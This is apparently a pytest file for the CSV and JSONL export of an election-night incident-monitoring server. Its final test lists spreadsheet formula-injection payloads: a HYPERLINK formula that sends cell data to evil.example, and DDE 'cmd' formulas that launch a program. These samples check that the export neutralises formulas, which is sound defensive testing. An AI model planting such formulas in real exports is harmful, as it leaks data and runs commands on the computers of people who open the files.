"""`opsmon-server export`: the post's record of the night, and a JSONL export
that folds back to exactly the state the database holds."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from pathlib import Path

import pytest

from opsmon.core.fold import fold
from opsmon.core.state import State
from server.cli import main
from server.export import read_jsonl
from server.store.sqlite import SqliteStore
from tests.helpers import CONFIG_PATH, FakeClock, running_server
from tests.processes import into_a_closed_pipe
from tests.wire import Peer, report


async def a_night(tmp_path: Path) -> None:
    clock = FakeClock()  # 21:00 WITA
    async with running_server(tmp_path, clock=clock) as running:
        officer = await Peer.open(running, running.tokens["officer"])
        polisi = await Peer.open(running, running.tokens["polisi"])
        await officer.command("report", **report(severity="critical", location="TPS 012"))
        clock.advance(minutes=2)
        await polisi.command("report", **report(severity="critical", location="tps 012", title="Kotak rusak (Polri)"))
        await officer.command("report", **report(severity="high", location="TPS 013", title="Genset"))
        await officer.command("stage", regency="6371", stage="rekap_ppk", done=3, note="lancar")
        clock.advance(minutes=10)  # 21:12: incident 1 escalates (system)
        await running.server.deadlines.check()
        await officer.command("assign", incident=1, to={"name": "Rahmat", "agency": "Bawaslu"})
        await officer.command("snooze", incident=2, minutes=30, note="Menunggu PLN")
        await officer.command("severity", incident=1, severity="high", note="Reda")
        await polisi.command("ack", incident=1)
        await polisi.command("unack", incident=1, note="Salah tekan")
        clock.advance(minutes=60)  # 22:12: the snooze ended (system)
        await running.server.deadlines.check()
        await officer.command("merge", incident=2, into=1, note="Sama")
        await officer.command("resolve", incident=1, note="Kotak diganti")
        await officer.close()
        await polisi.close()


async def stored(db: Path) -> tuple[State, State]:
    """What the database holds (its state tables), and the state before any event."""
    async with SqliteStore(db) as store:
        return await store.load_state(), State()


@pytest.fixture
def night(tmp_path: Path) -> Path:
    asyncio.run(a_night(tmp_path))
    return tmp_path / "opsmon.db"


def export(db: Path, *args: str) -> int:
    return main(["export", "--db", str(db), "--config", str(CONFIG_PATH), *args])


def test_the_jsonl_export_folds_back_to_the_database(night: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "malam.jsonl"
    assert export(night, "--format", "jsonl", "-o", str(out)) == 0
    assert "exported" in capsys.readouterr().err
    loaded, before = asyncio.run(stored(night))
    folded = fold(before, read_jsonl(out.read_text(encoding="utf-8")))
    assert folded.as_builtins() == loaded.as_builtins()
    assert folded.incidents[2].merged_into == 1 and folded.incidents[1].reports == 3 and folded.incidents[1].owner is not None
    kinds = {json.loads(line)["kind"] for line in out.read_text(encoding="utf-8").splitlines()}
    for kind in (
        "incident.duplicate",
        "incident.assigned",
        "incident.snoozed",
        "incident.unsnoozed",
        "incident.severity_changed",
        "incident.unacknowledged",
        "incident.merged",
        "incident.escalated",
    ):
        assert kind in kinds, kind


def test_the_csv_export_is_one_row_per_event_in_wita_and_utc(night: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert export(night, "--format", "csv") == 0
    text = capsys.readouterr().out
    rows = list(csv.DictReader(io.StringIO(text)))
    assert list(rows[0]) == ["seq", "time_wita", "time_utc", "kind", "actor", "agency", "incident", "regency", "summary"]
    seqs = [int(r["seq"]) for r in rows]
    assert seqs == sorted(seqs) and len(seqs) == len(set(seqs))
    first = next(r for r in rows if r["kind"] == "incident.reported")
    assert first["time_wita"] == "2024-02-14 21:00:00 WITA" and first["time_utc"] == "2024-02-14T13:00:00.000Z"
    assert (first["actor"], first["agency"], first["incident"], first["regency"]) == ("officer", "Bawaslu", "1", "6371")
    assert first["summary"] == "critical: Kotak suara rusak"
    repeat = next(r for r in rows if r["kind"] == "incident.duplicate")
    assert repeat["actor"] == "polisi" and repeat["incident"] == "1" and "Kotak rusak (Polri)" in repeat["summary"]
    woke = next(r for r in rows if r["kind"] == "incident.unsnoozed")
    assert woke["actor"] == "system" and woke["agency"] == "" and woke["time_wita"] == "2024-02-14 22:12:00 WITA"
    assert next(r for r in rows if r["kind"] == "incident.merged")["summary"] == "into #1: Sama"
    # the summary is for a person: the snooze's end in WITA (snoozed at 21:12 for 30 minutes), not the wire's UTC
    assert next(r for r in rows if r["kind"] == "incident.snoozed")["summary"] == "until 14/02 21:42 WITA: Menunggu PLN"


def test_since_and_until_pick_a_window(night: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert export(night, "--since", "2024-02-14T21:01", "--until", "2024-02-14T13:12Z") == 0
    rows = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert rows and all("2024-02-14T13:01" <= r["time_utc"] < "2024-02-14T13:12" for r in rows)
    assert {r["kind"] for r in rows} == {"incident.duplicate", "incident.reported", "stage.updated"}


@pytest.mark.parametrize(
    ("args", "says"),
    [
        (["--since", "kemarin"], "--since 'kemarin': not a date"),
        (["--since", "2024-02-14T22:00", "--until", "2024-02-14T21:00"], "is not after"),
        (["--format", "xml"], "invalid choice"),
    ],
)
def test_bad_export_arguments_are_one_line(night: Path, capsys: pytest.CaptureFixture[str], args: list[str], says: str) -> None:
    with pytest.raises(SystemExit) as exit_:
        raise SystemExit(export(night, *args))
    assert exit_.value.code == 2
    err = capsys.readouterr().err
    assert says in err and len(err.strip().splitlines()) == 1, err


def test_exporting_a_missing_database_is_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert export(tmp_path / "nope.db") == 1
    err = capsys.readouterr().err
    assert "does not exist" in err and len(err.strip().splitlines()) == 1


def test_a_reader_that_stops_early_gets_no_error_line(night: Path) -> None:
    # `opsmon-server export ... | head`: the pipe's reader is gone before the export writes.
    exported = into_a_closed_pipe("server.cli", "export", "--db", str(night), "--config", str(CONFIG_PATH), timeout=60)
    assert exported.stderr == "" and exported.returncode == 1


FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "   =1+1",
]


async def notes_with_formulas(tmp_path: Path) -> None:
    async with running_server(tmp_path) as running:
        officer = await Peer.open(running, running.tokens["officer"])
        await officer.command("report", **report(title='=HYPERLINK("http://evil.example")'))
        for text in FORMULAS:
            assert (await officer.command("note", incident=1, text=text))["ok"]
        await officer.close()


def test_the_csv_export_never_hands_a_spreadsheet_a_formula(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    asyncio.run(notes_with_formulas(tmp_path))
    assert export(tmp_path / "opsmon.db", "--format", "csv") == 0
    text = capsys.readouterr().out
    rows = list(csv.DictReader(io.StringIO(text)))
    summaries = [r["summary"] for r in rows if r["kind"] == "incident.noted"]
    # read back: each note is there, word for word, behind one single quote
    assert summaries == ["'" + f for f in FORMULAS]
    for row in rows:
        for cell in row.values():
            assert not cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r")), cell
    # every field quoted (OWASP), ordinary text untouched
    assert text.splitlines()[0].startswith('"seq","time_wita"')
    assert next(r for r in rows if r["kind"] == "incident.reported")["summary"] == 'high: =HYPERLINK("http://evil.example")'
